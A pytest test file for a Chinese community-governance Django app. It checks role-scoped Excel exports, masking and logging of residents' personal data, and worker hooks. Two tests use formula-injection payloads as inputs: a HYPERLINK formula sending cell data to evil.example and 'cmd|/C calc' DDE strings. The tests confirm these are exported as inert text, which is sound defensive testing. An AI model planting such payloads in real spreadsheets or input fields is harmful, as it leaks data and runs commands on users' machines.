"""Exports: queued by a person, written by the worker hook, scoped, masked unless the role may see."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from wangge.accounts.models import Role
from wangge.core.errors import PermissionDenied, ValidationFailed
from wangge.dashboards import facts, services
from wangge.dashboards.models import ExportJob, PiiAccessLog, RollupState
from wangge.dashboards.testing import make_export_job
from wangge.demands.models import State
from wangge.demands.testing import make_demand


def label_zh(choice: Any) -> str:
    with translation.override("zh-hans"):
        return str(choice.label)


def client_for(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def rows_of(client: Client, job: ExportJob) -> list[tuple[Any, ...]]:
    resp = client.get(reverse("dashboards:export_download", args=[job.pk]))
    assert resp.status_code == 200
    wb = load_workbook(io.BytesIO(b"".join(resp.streaming_content)))
    return list(wb.worksheets[0].iter_rows(values_only=True))


@pytest.fixture
def media(settings: Any, tmp_path: Any) -> Any:
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.mark.django_db
def test_export_through_the_page_and_the_worker(tree: Any, personas: Any, media: Any) -> None:
    held = make_demand(area=tree.town, title="镇里的诉求", reporter_phone="13911112222", reporter_name="王阿姨")
    below = make_demand(grid=tree.grid, title="网格的诉求", reporter_phone="13933334444")
    make_demand(grid=tree.other_grid, title="外镇的诉求", reporter_phone="13955556666")
    town = client_for(personas[Role.TOWN])
    resp = town.post(reverse("dashboards:exports"), {"kind": "demands", "view": "all", "q": ""})
    job = ExportJob.objects.get()
    assert resp.status_code == 302 and resp["Location"] == reverse("dashboards:export", args=[job.pk])
    page = town.get(reverse("dashboards:export", args=[job.pk])).content.decode()
    assert 'data-state="queued"' in page and 'hx-trigger="every 2s"' in page
    assert town.get(reverse("dashboards:export_download", args=[job.pk])).status_code == 404  # not done yet
    call_command("run_worker", "--once", verbosity=0)  # the hook writes it
    job.refresh_from_db()
    assert job.state == "done" and job.total == 2 and job.done_rows == 2 and job.progress == 100
    assert str(media) in str(services.export_path(job)) and "/exports/" in str(services.export_path(job))
    page = town.get(reverse("dashboards:export", args=[job.pk]), HTTP_HX_REQUEST="true").content.decode()
    assert 'data-state="done"' in page and "hx-trigger" not in page  # polling stops
    header, *rows = rows_of(town, job)
    assert header[0] == "编号" and header[10] == "联系电话"
    by_code = {r[0]: r for r in rows}
    assert set(by_code) == {held.code, below.code}  # the other town's demand is not in the town's file
    # The town holds its own demand: it may see that phone; the grid's is masked.
    assert by_code[held.code][10] == "13911112222" and by_code[held.code][9] == "王阿姨"
    assert by_code[below.code][10] == "139****4444" and by_code[below.code][9] == "李*"
    assert by_code[held.code][1] == "镇里的诉求" and by_code[held.code][6] == label_zh(State.SUBMITTED)
    log = PiiAccessLog.objects.get(export=job)
    assert log.user == personas[Role.TOWN] and log.values == 1
    # Nobody else opens my export, not even the city.
    for other in (personas[Role.CITY_ADMIN], personas["outsider"], personas[Role.VILLAGE]):
        assert client_for(other).get(reverse("dashboards:export_download", args=[job.pk])).status_code == 404
        assert client_for(other).get(reverse("dashboards:export", args=[job.pk])).status_code == 404
    # The worker also refreshed the rollups through its hooks.
    assert RollupState.objects.get(name="demands").refreshed_at is not None


@pytest.mark.django_db
def test_export_keeps_the_console_filters(tree: Any, personas: Any, media: Any) -> None:
    wanted = make_demand(grid=tree.grid, title="楼道漏水")
    make_demand(grid=tree.grid, title="垃圾没人收")
    job = make_export_job(user=personas[Role.VILLAGE], q="漏水", view="all")
    assert services.export_jobs_run() == 1
    rows = rows_of(client_for(personas[Role.VILLAGE]), ExportJob.objects.get(pk=job.pk))
    assert [r[0] for r in rows[1:]] == [wanted.code]
    assert rows[1][10] == "139****1234"  # a village does not hold a grid's demand


@pytest.mark.django_db
def test_unmasked_exports_only_for_city_admins_with_a_reason(tree: Any, personas: Any, media: Any) -> None:
    make_demand(grid=tree.grid, reporter_phone="13977778888")
    with pytest.raises(PermissionDenied):
        services.export_job_create(user=personas[Role.TOWN], kind="demands", unmasked=True, reason="核实情况")
    with pytest.raises(ValidationFailed):
        services.export_job_create(user=personas[Role.CITY_ADMIN], kind="demands", unmasked=True, reason="")
    resp = client_for(personas[Role.TOWN]).post(
        reverse("dashboards:exports"), {"kind": "demands", "unmasked": "1", "reason": "核实"}
    )
    assert resp.status_code == 403 and not ExportJob.objects.exists()
    job = services.export_job_create(
        user=personas[Role.CITY_ADMIN], kind="demands", filters={"view": "all"}, unmasked=True, reason="市纪委核查回访"
    )
    asked = PiiAccessLog.objects.get(export=job)
    assert asked.why == "市纪委核查回访" and asked.user == personas[Role.CITY_ADMIN]
    services.export_jobs_run()
    rows = rows_of(client_for(personas[Role.CITY_ADMIN]), ExportJob.objects.get(pk=job.pk))
    assert rows[1][10] == "13977778888"
    written = PiiAccessLog.objects.filter(export=job).exclude(pk=asked.pk).get()
    assert written.values == 1 and written.why == "市纪委核查回访"
    # The auditor exports too (reading is their job), always masked.
    audit = services.export_job_create(user=personas[Role.AUDITOR], kind="demands", filters={"view": "all"})
    services.export_jobs_run()
    assert rows_of(client_for(personas[Role.AUDITOR]), ExportJob.objects.get(pk=audit.pk))[1][10] == "139****8888"


@pytest.mark.django_db
def test_two_workers_never_write_one_job_twice(tree: Any, personas: Any, media: Any) -> None:
    job = make_export_job(user=personas[Role.TOWN])
    assert services.jobs._claim(job.pk, "a") is True
    assert services.jobs._claim(job.pk, "b") is False
    assert services.export_jobs_run() == 0  # running elsewhere


@pytest.mark.django_db
def test_a_failing_export_is_marked_failed_and_the_worker_goes_on(
    tree: Any, personas: Any, media: Any, monkeypatch: Any
) -> None:
    from wangge.dashboards import exports

    first = make_export_job(user=personas[Role.TOWN])
    second = make_export_job(user=personas[Role.TOWN])

    def broken(job: Any, progress: Any) -> Any:
        if job.pk == first.pk:
            raise OSError("disk full")
        return original(job, progress=progress)

    original = exports.write_export
    monkeypatch.setattr(exports, "write_export", broken)
    assert services.export_jobs_run() == 2
    first.refresh_from_db()
    second.refresh_from_db()
    assert first.state == "failed" and "disk full" in first.error
    assert second.state == "done"


@pytest.mark.django_db
def test_visit_log_export_and_the_visit_figures(tree: Any, personas: Any, media: Any) -> None:
    from wangge.registry.testing import make_household
    from wangge.visits.testing import make_visit

    assert facts.visit_models() is not None
    household = make_household(grid=tree.grid, head_name="赵大爷", phone="13812345678")
    make_visit(
        visitor=personas[Role.GRID_LEADER],
        household=household,
        notes="身体健康",
        opinions=[{"text": "希望修一条健身步道", "category": "infrastructure"}],
    )
    job = services.export_job_create(user=personas[Role.TOWN], kind="visits")
    services.export_jobs_run()
    rows = rows_of(client_for(personas[Role.TOWN]), ExportJob.objects.get(pk=job.pk))
    assert rows[0][0] == "走访时间" and len(rows) == 2
    assert rows[1][3] == "赵*爷" and rows[1][5] == "138****5678" and rows[1][7] == "身体健康" and rows[1][8] == 1
    outsider = services.export_job_create(user=personas["outsider"], kind="visits")
    services.export_jobs_run()
    assert len(rows_of(client_for(personas["outsider"]), ExportJob.objects.get(pk=outsider.pk))) == 1
    # The visit and its opinion reach the public page through the activity rollups.
    services.rollup_refresh_recent()
    html = Client().get(reverse("dashboards:public")).content.decode()
    assert "赵大爷" not in html and "健身步道" not in html
    from wangge.dashboards.models import ActivityRollup

    assert ActivityRollup.objects.get(area=tree.town).visits == 1
    assert ActivityRollup.objects.get(area=tree.city).opinions == 1
    assert not ActivityRollup.objects.filter(area=tree.other_town).exists()


@pytest.mark.django_db
def test_worker_hooks_run_in_order_and_survive_a_broken_one(tree: Any, personas: Any, settings: Any) -> None:
    from wangge.core.worker import run_pass
    from wangge.demands import services as demand_services

    settings.DASHBOARD_ROLLUP_ID_MARGIN = 0
    demand = make_demand(grid=tree.grid)
    settings.WANGGE_WORKER_HOOKS = ["wangge.nowhere.hook", "wangge.dashboards.services.rollup_refresh_recent"]
    runs = run_pass()
    assert [(run.path, run.ok) for run in runs] == [
        ("wangge.nowhere.hook", False),
        ("wangge.dashboards.services.rollup_refresh_recent", True),
    ]
    assert runs[1].result.demands == 1
    state = RollupState.objects.get(name="demands")
    assert state.refreshed_at is not None and state.last_event_id == demand.events.get().pk
    # Nothing new: no day is recomputed. A move (a new event) brings its demand's day back.
    assert run_pass()[1].result.days == 0
    demand_services.demand_accept(demand=demand, actor=personas[Role.GRID_LEADER])
    again = run_pass()[1].result
    assert again.days == 1 and again.demands == 1


@pytest.mark.django_db
def test_a_residents_formula_is_exported_as_text(tree: Any, personas: Any, media: Any) -> None:
    # An anonymous resident's title, name and address must not become a live formula in the clerk's Excel.
    hostile = '=HYPERLINK("http://evil.example/?"&K2,"详情")'
    demand = make_demand(grid=tree.grid, title=hostile, reporter_name="@SUM(1)", address="+1+cmd|' /C calc'!A0")
    job = make_export_job(user=personas[Role.CITY_ADMIN], view="all")
    assert services.export_jobs_run() == 1
    resp = client_for(personas[Role.CITY_ADMIN]).get(reverse("dashboards:export_download", args=[job.pk]))
    sheet = load_workbook(io.BytesIO(b"".join(resp.streaming_content))).worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == demand.code)
    title, address = row[1], row[11]
    assert (title.value, title.data_type, title.quotePrefix) == (hostile, "s", True)
    assert (address.value, address.data_type, address.quotePrefix) == ("+1+cmd|' /C calc'!A0", "s", True)


def test_area_report_writes_area_and_category_names_as_text() -> None:
    import datetime as dt
    from types import SimpleNamespace

    from wangge.dashboards.exports import report_workbook

    period = SimpleNamespace(start=dt.date(2026, 3, 9), end=dt.date(2026, 3, 15))
    report = {
        "title": "=1+1 周报",
        "period": period,
        "current": {"received": 3},
        "previous": {},
        "categories": [
            {"name": "=cmd|'/C calc'!A0", "received": 1, "resolved": 0, "ontime_rate": None, "satisfaction_rate": None}
        ],
        "ranking": [
            {
                "position": 1,
                "area": SimpleNamespace(name="-2+3镇"),
                "received": 3,
                "response_rate": 0.5,
                "resolution_rate": None,
                "satisfaction_rate": None,
                "score": 0.5,
            }
        ],
    }
    wb = load_workbook(io.BytesIO(report_workbook(report)))
    for sheet, coordinate, text in (
        ("指标", "A1", "=1+1 周报"),
        ("类别", "A2", "=cmd|'/C calc'!A0"),
        ("排名", "B2", "-2+3镇"),
    ):
        cell = wb[sheet][coordinate]
        assert cell.data_type == "s" and cell.quotePrefix and str(cell.value).startswith(text), (sheet, cell.value)
    assert wb["指标"]["B3"].value == 3 and wb["排名"]["A2"].value == 1  # figures stay numbers
